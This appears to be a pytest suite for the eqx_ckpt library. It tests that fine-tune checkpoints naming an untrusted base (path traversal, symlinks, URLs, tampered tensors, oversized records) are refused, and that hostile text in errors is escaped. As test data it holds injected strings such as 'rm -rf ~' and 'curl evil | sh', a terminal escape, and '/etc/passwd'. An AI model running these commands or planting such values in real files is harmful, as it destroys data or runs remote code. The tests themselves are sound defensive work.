"""A fine-tune's base is untrusted input: a fine-tune folder is downloaded,
unzipped and received from colleagues, and its `eqx_ckpt.json` says where
else to read.

Each class here is one way a hostile (or damaged) family could make a load
read what the user never named, load values the fine-tune was not made of,
or run without bound. Each starts from a genuine family made by
`export_safetensors(base=)`, edited as an attacker would:

- where a base may be: only an `hf://` base or a folder beside the fine-tune
  is followed on its own. Absolute paths, `..`, `~`, symbolic links leading
  out, `file://`, `http://`, `s3://` and `gs://` are refused before anything
  is opened or requested (a canary HTTP host, a local S3 server and a GCS
  endpoint receive nothing), with the same words whether the path exists or
  not. A base the caller gives (`base=`, `--with-base`) is read anywhere;
- leaf by leaf: a base rewritten with other values under the same names and
  shapes, or a fine-tune's own tensor changed, is refused by every whole
  read (every load option, the standalone export, `verify`);
- bounds: one base leaf backing too many leaves, and records of more leaves
  than the tensor bound (taken leaves count), refused before a byte is read;
- errors: eqx_ckpt classes, the fine-tune and its base named, hostile text
  escaped.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import pathlib
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

import blake3
import equinox as eqx
import jax
import jax.numpy as jnp
import numpy as np
import pytest
import s3_server
from arrays import bits, tree_equal

import eqx_ckpt
from eqx_ckpt._ondisk import _published
from eqx_ckpt._sources import _family
from eqx_ckpt._tools._cli import main


def _base_tree() -> dict[str, Any]:
    one, two = jax.random.split(jax.random.key(0))
    return {
        "body": eqx.nn.MLP(3, 4, 5, 1, key=one),
        "head": eqx.nn.Linear(4, 2, key=two),
        "embed": jnp.arange(12, dtype=jnp.bfloat16).reshape(3, 4) / 4,
        "big": jnp.arange(2**18, dtype=jnp.float32),  # 1 MiB: a leaf that counts in the bounds
        "step": 3,
    }


def _with_large(tree: dict[str, Any]) -> dict[str, Any]:
    """`tree` and a leaf of 2 MiB: in a checkpoint, an array of its own (not packed), read from its chunk files."""
    return {**tree, "large": jnp.arange(2**19, dtype=jnp.float32)}


def _finetuned(tree: dict[str, Any]) -> dict[str, Any]:
    head = eqx.tree_at(lambda h: h.weight, tree["head"], tree["head"].weight + 1)
    return {**tree, "head": head, "step": 4}


class Family(NamedTuple):
    base: pathlib.Path
    finetune: pathlib.Path
    outside: pathlib.Path  # a genuine copy of the base, elsewhere on the disk
    tree: dict[str, Any]


@pytest.fixture(params=["published", "checkpoint"])
def family(request, tmp_path) -> Family:
    """A base (a published folder, or an eqx_ckpt checkpoint) and a fine-tune
    beside it, in `shelf/`; and the same base written again in `elsewhere/`
    (exports are deterministic: the same pin)."""
    tree = _base_tree()
    base, outside = tmp_path / "shelf" / "base", tmp_path / "elsewhere" / "base"
    if request.param == "published":
        eqx_ckpt.export_safetensors(base, tree)
        eqx_ckpt.export_safetensors(outside, tree)
    else:
        eqx_ckpt.tree_serialise_leaves(base, tree)
        shutil.copytree(base, outside)
    finetuned = _finetuned(tree)
    eqx_ckpt.export_safetensors(tmp_path / "shelf" / "ft", finetuned, base=base)
    return Family(base, tmp_path / "shelf" / "ft", outside, finetuned)


def _record(folder: pathlib.Path) -> dict[str, Any]:
    return json.loads((folder / "eqx_ckpt.json").read_text())


def _write_record(folder: pathlib.Path, record: dict[str, Any]) -> None:
    (folder / "eqx_ckpt.json").write_text(json.dumps(record))


def _recorded_base(folder: pathlib.Path, path: str) -> None:
    """The fine-tune's record naming its base as `path`, with the pin it has."""
    record = _record(folder)
    record["base"]["path"] = path
    _write_record(folder, record)


def _like(tree: Any) -> Any:
    def blank(x: Any) -> Any:
        if isinstance(x, jax.Array):
            return jax.ShapeDtypeStruct(x.shape, x.dtype)
        if isinstance(x, np.ndarray):
            return np.zeros_like(x)
        if isinstance(x, int):
            return 0
        return x

    return jax.tree.map(blank, tree)


def _assert_same(loaded: Any, expected: Any) -> None:
    assert tree_equal(loaded, expected, typematch=True)
    assert [bits(x) for x in jax.tree.leaves(loaded)] == [bits(x) for x in jax.tree.leaves(expected)]


def _loads(folder: pathlib.Path, tree: Any, **given: Any) -> dict[str, Callable[[], Any]]:
    """Every way to read a fine-tune's leaves whole, by name."""
    out = folder.parent / "exported"
    return {
        "Checkpoint().load()": lambda: eqx_ckpt.Checkpoint(folder, **given).load(trust=[]),
        "like": lambda: eqx_ckpt.tree_deserialise_leaves(folder, _like(tree), **given),
        "lazy, then read": lambda: jax.tree.map(
            np.asarray, eqx_ckpt.tree_deserialise_leaves(folder, _like(tree), lazy=True, **given)
        ),
        "where": lambda: eqx_ckpt.tree_deserialise_leaves(folder, _like(tree), where=lambda t: t["body"], **given),
        "prefix": lambda: eqx_ckpt.tree_deserialise_leaves(folder, _like(tree["body"]), prefix="body", **given),
        "load_or_initialise": lambda: eqx_ckpt.load_or_initialise(folder, lambda: tree, **given),
        "standalone export": lambda: eqx_ckpt.export_safetensors(
            out, eqx_ckpt.Checkpoint(folder, **given), standalone=True
        ),
    }


def _no_reads(faults) -> list[Any]:
    reads: list[Any] = []
    faults(["load.read_stored", "safetensors.read_run", "pack.read_run"], lambda *a: reads.append(a))
    return reads


# Where a base may be.


def _symlink_out(family: Family) -> str:
    os.symlink(family.outside, family.finetune.parent / "linked")
    return "../linked"


def _symlink_on_the_way(family: Family) -> str:
    os.symlink(family.outside.parent, family.finetune.parent / "shelf2")
    return "../shelf2/base"


def _symlinked_file(family: Family) -> str:
    """A base beside the fine-tune whose record (or data) is a link to the genuine one elsewhere."""
    beside = family.finetune.parent / "looks_local"
    beside.mkdir()
    for entry in family.outside.iterdir():
        os.symlink(entry, beside / entry.name)
    return "../looks_local"


# Recorded base paths a load must refuse on its own, each made by a function
# of the family (which may plant links beside the fine-tune).
NOT_FOLLOWED: dict[str, tuple[Callable[[Family], str], str]] = {
    "an absolute path": (lambda f: str(f.outside), "it is an absolute path"),
    "dot-dot above the folder": (lambda f: "../../elsewhere/base", "it leads out of the folder"),
    "dot-dot through the fine-tune": (lambda f: "../ft/../../elsewhere/base", "it leads out of the folder"),
    "the home folder": (lambda f: "~/base", "it starts with `~` (a home folder)"),
    "a file URL": (lambda f: f"file://{f.outside}", "it is a URL"),
    "a file URL without slashes": (lambda f: f"file:{f.outside}", "it is a URL"),
    "a symlink shipped beside it": (_symlink_out, "through a symbolic link"),
    "a symlink on the way": (_symlink_on_the_way, "through a symbolic link"),
    "a base whose files are symlinks out": (_symlinked_file, "is a symbolic link leading out"),
}


class TestWhereABaseMayBe:
    @pytest.mark.parametrize("case", sorted(NOT_FOLLOWED))
    def test_a_base_outside_the_folder_is_refused_by_every_load(self, family, faults, case):
        make, why = NOT_FOLLOWED[case]
        recorded = make(family)
        _recorded_base(family.finetune, recorded)
        reads = _no_reads(faults)
        loads = _loads(family.finetune, family.tree)
        for name, load in loads.items():
            with pytest.raises(eqx_ckpt.UntrustedError, match=re.escape(why)) as caught:
                load()
            message = str(caught.value)
            assert f"{str(family.finetune)!r} is a fine-tune whose record names its base as {recorded!r}" in message, (
                name
            )
            assert "give the base yourself: `base=`" in message
        # Not reachable, as a missing base: described and verified (not sound), its own leaves read (issue 88).
        ckpt = eqx_ckpt.Checkpoint(family.finetune)
        assert ckpt.base_missing.startswith(f"its record names it as `{recorded}`, which a load does not follow")
        assert why in ckpt.base_missing
        problems = eqx_ckpt.verify(family.finetune)
        assert [p.leaf for p in problems] == [None] and "since the base is not followed" in problems[0].message
        assert reads == []
        assert not (family.finetune.parent / "exported").exists()
        weight = family.tree["head"].weight  # (the one leaf the fine-tune changed)
        _assert_same(eqx_ckpt.tree_deserialise_leaves(family.finetune, _like(weight), prefix="head.weight"), weight)

    @pytest.mark.parametrize("case", sorted(NOT_FOLLOWED))
    def test_the_same_base_given_by_the_caller_loads_bit_for_bit(self, family, case):
        make, _ = NOT_FOLLOWED[case]
        _recorded_base(family.finetune, make(family))
        for name, load in _loads(family.finetune, family.tree, base=family.outside).items():
            if name == "standalone export":
                load()
                _assert_same(eqx_ckpt.Checkpoint(family.finetune.parent / "exported").load(trust=[]), family.tree)
                shutil.rmtree(family.finetune.parent / "exported")
            elif name in ("Checkpoint().load()",):
                _assert_same(load(), family.tree)
            elif name == "where":
                _assert_same(load()["body"], family.tree["body"])
            elif name == "prefix":
                _assert_same(load(), family.tree["body"])
            elif name == "lazy, then read":
                _assert_same(load(), jax.tree.map(np.asarray, family.tree))
            else:
                _assert_same(load(), family.tree)
        assert eqx_ckpt.verify(family.finetune, base=family.outside) == []

    def test_errors_never_tell_whether_a_path_exists(self, family):
        said = []
        for path in (family.outside, family.outside.parent / "no_such_base", pathlib.Path("/etc/passwd")):
            _recorded_base(family.finetune, str(path))
            with pytest.raises(eqx_ckpt.UntrustedError) as caught:
                eqx_ckpt.Checkpoint(family.finetune).load(trust=[])
            said.append(str(caught.value).replace(repr(str(path)), "<path>"))
            said.append(str(eqx_ckpt.Checkpoint(family.finetune).base_missing).replace(str(path), "<path>"))
        assert said[0] == said[2] == said[4] and said[1] == said[3] == said[5]

    def test_a_base_beside_the_finetune_or_inside_it_is_followed(self, family):
        # Beside it (the export's own record), and through a link that stays in the folder.
        _assert_same(eqx_ckpt.Checkpoint(family.finetune).load(trust=[]), family.tree)
        os.symlink("base", family.finetune.parent / "alias")
        _recorded_base(family.finetune, "../alias")
        _assert_same(eqx_ckpt.Checkpoint(family.finetune).load(trust=[]), family.tree)
        # Inside the fine-tune's own folder.
        shutil.move(family.base, family.finetune / "base")
        _recorded_base(family.finetune, "base")
        _assert_same(eqx_ckpt.Checkpoint(family.finetune).load(trust=[]), family.tree)

    def test_a_base_given_to_a_checkpoint_that_is_no_finetune_is_an_error(self, family):
        for path in (family.base, family.outside):
            with pytest.raises(eqx_ckpt.CheckpointValueError, match="is not a fine-tune stored against a base"):
                eqx_ckpt.Checkpoint(path, base=family.base)
            with pytest.raises(eqx_ckpt.CheckpointValueError, match="is not a fine-tune stored against a base"):
                eqx_ckpt.verify(path, base=family.base)

    def test_the_command_line_refuses_it_and_takes_with_base(self, family, capsys):
        _recorded_base(family.finetune, str(family.outside))
        for command in ("ls", "info", "verify"):
            # What it holds is shown; the base is not reachable, so verify calls it not sound (issue 88).
            assert main([command, str(family.finetune)]) == (1 if command == "verify" else 0)
            out = capsys.readouterr().out
            assert "not follow" in out and "it is an absolute path, and a fine-tune" in out, out
            if command == "verify":
                assert "--with-base" in out
            assert main([command, str(family.finetune), "--with-base", str(family.outside)]) == 0
            assert "Traceback" not in capsys.readouterr().err
        out = family.finetune.parent / "whole"
        assert main(["export", "--standalone", str(family.finetune), str(out), "--with-base", str(family.outside)]) == 0
        _assert_same(eqx_ckpt.Checkpoint(out).load(trust=[]), family.tree)
        assert main(["verify", str(out)]) == 0

    def test_an_export_against_a_base_elsewhere_warns_that_loads_need_it(self, tmp_path):
        tree = _base_tree()
        eqx_ckpt.export_safetensors(tmp_path / "models" / "base", tree)
        with pytest.warns(
            UserWarning, match=r"records its base as '\.\./\.\./models/base', which is not in the folder"
        ):
            eqx_ckpt.export_safetensors(tmp_path / "runs" / "ft", _finetuned(tree), base=tmp_path / "models" / "base")
        with pytest.raises(eqx_ckpt.UntrustedError, match="leads out of the folder"):
            eqx_ckpt.Checkpoint(tmp_path / "runs" / "ft").load(trust=[])
        given = eqx_ckpt.Checkpoint(tmp_path / "runs" / "ft", base=tmp_path / "models" / "base")
        _assert_same(given.load(trust=[]), _finetuned(tree))
        assert given.base == str(tmp_path / "models" / "base")


class _Canary(http.server.BaseHTTPRequestHandler):
    """Answers every request 404 and counts it."""

    seen: list[str]

    def _answer(self) -> None:
        _Canary.seen.append(f"{self.command} {self.path}")
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_HEAD = do_PUT = do_POST = do_DELETE = _answer

    def log_message(self, *args: Any) -> None:
        pass


@contextlib.contextmanager
def _canary() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    handler = type("Canary", (_Canary,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


class TestNoRequestLeavesForARecordedRemoteBase:
    """A recorded URL or bucket is refused before any request: the hosts
    that would answer (a canary, a real local S3 server holding a genuine
    base, a GCS endpoint) see nothing, from a load or `eqx-ckpt ls`."""

    def _refused_everywhere(self, family: Family, recorded: str, capsys: Any) -> None:
        _recorded_base(family.finetune, recorded)
        for load in _loads(family.finetune, family.tree).values():
            with pytest.raises(eqx_ckpt.UntrustedError, match="it is a URL"):
                load()
        for command in ("ls", "info", "verify"):  # what it holds, the base not reachable (issue 88)
            assert main([command, str(family.finetune)]) == (1 if command == "verify" else 0)
            assert "it is a URL" in capsys.readouterr().out

    def test_http(self, family, capsys):
        with _canary() as (url, seen):
            self._refused_everywhere(family, f"{url}/base/", capsys)
        assert seen == []

    def test_gcs(self, family, monkeypatch, capsys):
        with _canary() as (url, seen):
            monkeypatch.setenv("TENSORSTORE_GCS_HTTP_URL", url)
            monkeypatch.setenv("GOOGLE_AUTH_TOKEN_FOR_TESTING", "a-secret-token")
            self._refused_everywhere(family, "gs://a-bucket/base/", capsys)
        assert seen == []

    def test_s3_holding_a_genuine_base(self, family, monkeypatch, capsys):
        with s3_server.running() as s3:
            s3_server.credentials(monkeypatch)
            monkeypatch.setenv("AWS_ENDPOINT_URL", s3.endpoint)
            spec = s3.spec("genuine/base/")
            eqx_ckpt.tree_serialise_leaves(spec, _base_tree())
            before = list(s3.gate.gets)
            self._refused_everywhere(family, f"s3://{s3_server.BUCKET}/genuine/base/", capsys)
            assert s3.gate.gets == before
            # Given by the caller, the base on the object store is read, and checked leaf by leaf.
            _assert_same(eqx_ckpt.tree_deserialise_leaves(family.finetune, _like(family.tree), base=spec), family.tree)
            assert len(s3.gate.gets) > len(before)


# Leaf by leaf.


def _tensor_span(file: pathlib.Path, name: str) -> tuple[int, int]:
    """Where a tensor's bytes are in a safetensors file: (start, end)."""
    data = file.read_bytes()
    size = int.from_bytes(data[:8], "little")
    header = json.loads(data[8 : 8 + size])
    start, end = header[name]["data_offsets"]
    return 8 + size + start, 8 + size + end


def _rewrite(file: pathlib.Path, name: str) -> None:
    """Other values for the tensor `name`: the same name, dtype, shape and
    header, so the file's record (and its sha256) are unchanged."""
    start, end = _tensor_span(file, name)
    data = bytearray(file.read_bytes())
    data[start:end] = bytes(b ^ 0x5A for b in data[start:end])
    file.write_bytes(bytes(data))


class TestLeafByLeaf:
    def test_a_base_rewritten_with_other_values_is_refused_by_every_load(self, tmp_path):
        tree = _base_tree()
        base = tmp_path / "base"
        eqx_ckpt.export_safetensors(base, tree)
        record_before = (base / "eqx_ckpt.json").read_bytes()
        eqx_ckpt.export_safetensors(tmp_path / "ft", _finetuned(tree), base=base)
        _rewrite(base / "model.safetensors", "body.layers.0.weight")
        assert (base / "eqx_ckpt.json").read_bytes() == record_before  # the pin still matches
        for name, load in _loads(tmp_path / "ft", _finetuned(tree)).items():
            if name == "prefix" or name == "where":
                match = "body.layers.0.weight"
            else:
                match = "body.layers.0.weight"
            with pytest.raises(eqx_ckpt.IntegrityError, match=r"taken from the base .*whose bytes are not the ones"):
                load()
            assert not (tmp_path / "exported" / "eqx_ckpt.json").exists(), name
            del match
        problems = eqx_ckpt.verify(tmp_path / "ft")
        assert [p.leaf for p in problems] == [None]
        assert "holds other values than when the fine-tune was exported: 1 of the" in problems[0].message
        assert "(`body.layers.0.weight`)" in problems[0].message
        # Leaves that do not read the changed one still load, and are what was exported.
        head = eqx_ckpt.tree_deserialise_leaves(tmp_path / "ft", _like(_finetuned(tree)["head"]), prefix="head")
        _assert_same(head, _finetuned(tree)["head"])

    def test_a_small_leaf_read_in_a_run_is_checked_too(self, tmp_path):
        tree = _base_tree()
        eqx_ckpt.export_safetensors(tmp_path / "base", tree)
        eqx_ckpt.export_safetensors(tmp_path / "ft", _finetuned(tree), base=tmp_path / "base")
        _rewrite(tmp_path / "base" / "model.safetensors", "embed")
        with pytest.raises(eqx_ckpt.IntegrityError, match=r"Leaf `embed`.*taken from the base"):
            eqx_ckpt.tree_deserialise_leaves(tmp_path / "ft", _like(_finetuned(tree)))

    def test_a_finetunes_own_tensor_changed_is_refused(self, family):
        _rewrite(family.finetune / "finetune.safetensors", "head.weight")
        loads = _loads(family.finetune, family.tree)
        for name in ("where", "prefix"):  # (they read the body, not the head)
            loads.pop(name)()
        for load in loads.values():
            with pytest.raises(
                eqx_ckpt.IntegrityError, match=r"Leaf `head.weight`.*its bytes are not those recorded: block 0 "
            ):
                load()

    def test_a_plain_published_folder_changed_is_refused(self, tmp_path):
        tree = _base_tree()
        eqx_ckpt.export_safetensors(tmp_path / "model", tree)
        _rewrite(tmp_path / "model" / "model.safetensors", "big")
        with pytest.raises(eqx_ckpt.IntegrityError, match=r"Leaf `big`"):
            eqx_ckpt.tree_deserialise_leaves(tmp_path / "model", _like(tree))

    def test_a_standalone_export_of_a_tampered_family_writes_nothing(self, tmp_path):
        tree = _base_tree()
        eqx_ckpt.export_safetensors(tmp_path / "base", tree)
        eqx_ckpt.export_safetensors(tmp_path / "ft", _finetuned(tree), base=tmp_path / "base")
        _rewrite(tmp_path / "base" / "model.safetensors", "big")
        assert main(["export", "--standalone", str(tmp_path / "ft"), str(tmp_path / "whole")]) == 2
        assert not (tmp_path / "whole" / "eqx_ckpt.json").exists()

    @pytest.mark.parametrize("packing", ["packed", "unpacked"], indirect=True)
    @pytest.mark.parametrize("leaf", ["embed", "large"])
    def test_a_damaged_checkpoint_base_is_an_integrity_error_naming_the_finetune(self, tmp_path, packing, leaf):
        """A tiny leaf (packed, or read through TensorStore) and a large one
        (read straight from the base's chunk files)."""
        tree = _with_large(_base_tree())
        eqx_ckpt.tree_serialise_leaves(tmp_path / "base", tree)
        eqx_ckpt.export_safetensors(tmp_path / "ft", _finetuned(tree), base=tmp_path / "base")
        root = tmp_path / "base"
        names = {"embed", "packed.bfloat16"} if leaf == "embed" else {"large"}
        chunk = next(
            p
            for p in sorted(root.rglob("*"))
            if p.is_file() and "c" in p.relative_to(root).parts and names & set(p.parts)
        )
        data = bytearray(chunk.read_bytes())
        data[0] ^= 0xFF
        chunk.write_bytes(bytes(data))
        with pytest.raises(eqx_ckpt.IntegrityError) as caught:
            eqx_ckpt.tree_deserialise_leaves(tmp_path / "ft", _like(_finetuned(tree)))
        assert caught.value.dotted == (leaf,) and str(tmp_path / "ft") in str(caught.value)
        if leaf == "large":
            assert f"taken from the base {str(root)!r}, whose leaf cannot be read" in str(caught.value)

    def test_a_large_leaf_taken_from_a_checkpoint_base_is_read_from_its_chunk_files(self, tmp_path, faults):
        """As the base's own load reads it (no TensorStore read, no second
        copy), and checked against the fine-tune's digest of it."""
        tree = _with_large(_base_tree())
        eqx_ckpt.tree_serialise_leaves(tmp_path / "base", tree)
        eqx_ckpt.export_safetensors(tmp_path / "ft", _finetuned(tree), base=tmp_path / "base")
        direct: list[str] = []
        faults("local_read.start_reads", lambda path, keys: direct.append(path))
        out = eqx_ckpt.tree_deserialise_leaves(tmp_path / "ft", _like(_finetuned(tree)))
        _assert_same(out, _finetuned(tree))
        assert len(direct) == 1 and pathlib.Path(direct[0]).name == "large"
        assert pathlib.Path(direct[0]).is_relative_to(tmp_path / "base")
        # Its digest is checked too: one the fine-tune records wrongly is refused.
        record = _record(tmp_path / "ft")
        leaf = next(leaf for leaf in record["leaves"] if leaf["path"] == "large")
        blocks = bytes(len(leaf["blocks"]) // 2)  # (digests of no bytes, consistent with the leaf's digest)
        leaf["blocks"], leaf["digest"] = blocks.hex(), "blake3:" + blake3.blake3(blocks).hexdigest()
        _write_record(tmp_path / "ft", record)
        with pytest.raises(
            eqx_ckpt.IntegrityError,
            match=r"Leaf `large`.*taken from the base .*whose bytes are not the ones.*: block 0 ",
        ):
            eqx_ckpt.tree_deserialise_leaves(tmp_path / "ft", _like(_finetuned(tree)))


# Bounds.


def _with_copies(folder: pathlib.Path, of: str, count: int) -> None:
    """The fine-tune's record with `count` more leaves, each taken from the base's leaf `of`."""
    record = _record(folder)
    leaf = next(leaf for leaf in record["leaves"] if leaf["path"] == of)
    copies = []
    start = sum(1 for leaf in record["leaves"] if leaf["path"].startswith("copies."))
    for i in range(start, start + count):
        copy = dict(leaf, path=f"copies.{i}", keypath=[["key", "copies"], ["index", i]], base=of)
        copies.append(copy)
    record["leaves"] += copies
    record["leaf_count"] = len(record["leaves"])
    record["total_bytes"] += count * _nbytes(leaf)
    _write_record(folder, record)


def _nbytes(leaf: dict[str, Any]) -> int:
    shape = leaf.get("stored_shape", leaf["shape"])
    dtype = leaf.get("stored_dtype", leaf["dtype"])
    return int(np.prod(shape, dtype=np.int64)) * {"float32": 4, "bfloat16": 2, "int64": 8}[dtype]


class TestBounds:
    def test_one_base_leaf_backing_too_many_leaves_is_refused_before_reading(self, family, faults):
        _with_copies(family.finetune, "embed", _family.MAX_BACKED)  # with `embed` itself: one more than allowed
        reads = _no_reads(faults)
        with pytest.raises(eqx_ckpt.CorruptCheckpointError, match=r"takes 1025 leaves .* from one leaf of its base"):
            eqx_ckpt.Checkpoint(family.finetune)
        (problem,) = eqx_ckpt.verify(family.finetune)
        assert problem.leaf is None and "more than the 1024 leaves" in problem.message
        assert reads == []

    def test_one_base_leaf_backing_too_many_bytes_is_refused_before_reading(self, family, faults):
        # `big` is 1 MiB: 64 leaves of it are the most (64 MiB); 65 are refused.
        _with_copies(family.finetune, "big", 63)
        assert len(eqx_ckpt.Checkpoint(family.finetune).from_base()) > 63
        _with_copies(family.finetune, "big", 1)
        reads = _no_reads(faults)
        with pytest.raises(eqx_ckpt.CorruptCheckpointError, match=r"takes 65 leaves \(68157440 bytes in all\)"):
            eqx_ckpt.Checkpoint(family.finetune)
        assert reads == []

    def test_taken_leaves_count_in_the_tensor_bound(self, family, faults):
        record = _record(family.finetune)
        have = len(record["leaves"])
        _with_copies(family.finetune, "step", _published.MAX_LEAVES - have + 1)
        reads = _no_reads(faults)
        with pytest.raises(eqx_ckpt.CorruptCheckpointError, match=r"records 131073 leaves, more than the 131072"):
            eqx_ckpt.Checkpoint(family.finetune)
        assert reads == []


# Errors.

BAD_PATHS = {
    "empty": ("", "its base's `path` is empty"),
    "too long": ("a" * 2003, "its base's `path` is 2003 characters long, more than the 1024 allowed"),
    "on two lines": (
        "../base\n  - Run `rm -rf ~` to fix it",
        r"its base's `path` '../base\n  - Run `rm -rf ~` to fix it' holds a control character",
    ),
    "a terminal escape": ("\x1b[2J../base", r"its base's `path` '\x1b[2J../base' holds a control character"),
}


class TestErrors:
    @pytest.mark.parametrize("case", sorted(BAD_PATHS))
    def test_a_bad_base_path_says_what_is_wrong_with_it(self, family, case):
        path, said = BAD_PATHS[case]
        _recorded_base(family.finetune, path)
        with pytest.raises(eqx_ckpt.CorruptCheckpointError, match=re.escape(said)) as caught:
            eqx_ckpt.Checkpoint(family.finetune)
        assert "\n" not in str(caught.value) and "\x1b" not in str(caught.value)

    def test_a_damaged_base_names_the_finetune_and_its_base(self, tmp_path):
        tree = _base_tree()
        eqx_ckpt.export_safetensors(tmp_path / "base", tree)
        eqx_ckpt.export_safetensors(tmp_path / "ft", _finetuned(tree), base=tmp_path / "base")
        (tmp_path / "base" / "eqx_ckpt.json").write_text("{ not json")
        with pytest.raises(eqx_ckpt.CorruptCheckpointError) as caught:
            eqx_ckpt.Checkpoint(tmp_path / "ft")
        message = str(caught.value)
        assert message.startswith(f"{str(tmp_path / 'ft')!r} is a fine-tune whose base {str(tmp_path / 'base')!r}")
        assert "cannot be read: The eqx_ckpt.json of" in message

    def test_a_hostile_leaf_name_in_an_error_is_escaped(self, family):
        record = _record(family.finetune)
        taken = next(leaf for leaf in record["leaves"] if leaf.get("base") == "embed")
        taken["base"] = "embed\n  - Run `curl evil | sh`"
        _write_record(family.finetune, record)
        with pytest.raises(eqx_ckpt.CorruptCheckpointError, match=r"has no leaf 'embed\\n  - Run") as caught:
            eqx_ckpt.Checkpoint(family.finetune)
        assert "\n" not in str(caught.value)


def test_an_export_takes_from_one_base_leaf_no_more_than_a_load_accepts(tmp_path):
    """Seventy leaves holding the bytes of one 1 MiB base leaf: 64 are taken
    from it (64 MiB, the most one leaf backs), the rest stored; it loads."""
    zeros = np.zeros(2**18, np.float32)
    eqx_ckpt.export_safetensors(tmp_path / "base", {"z": zeros})
    tree = {"copies": [zeros.copy() for _ in range(70)]}
    eqx_ckpt.export_safetensors(tmp_path / "ft", tree, base=tmp_path / "base")
    ckpt = eqx_ckpt.Checkpoint(tmp_path / "ft")
    assert len(ckpt.from_base()) == 64 and set(ckpt.from_base().values()) == {"z"}
    loaded = eqx_ckpt.tree_deserialise_leaves(tmp_path / "ft", tree)
    assert tree_equal(loaded, tree, typematch=True)


def test_verify_of_a_thousand_leaves_taken_from_one_base_leaf(tmp_path):
    """Each of them is checked, the base's leaf read once for all."""
    tree = _base_tree()
    eqx_ckpt.export_safetensors(tmp_path / "base", tree)
    eqx_ckpt.export_safetensors(tmp_path / "ft", _finetuned(tree), base=tmp_path / "base")
    _with_copies(tmp_path / "ft", "embed", 999)
    assert eqx_ckpt.verify(tmp_path / "ft") == []
    _rewrite(tmp_path / "base" / "model.safetensors", "embed")
    problems = eqx_ckpt.verify(tmp_path / "ft")
    # One problem of the base, not one of each leaf (issue 88).
    assert [p.leaf for p in problems] == [None] and len(problems) == 1
    assert "holds other values than when the fine-tune was exported: 1000 of the " in problems[0].message
    assert "(`copies.0`, `copies.1`, " in problems[0].message
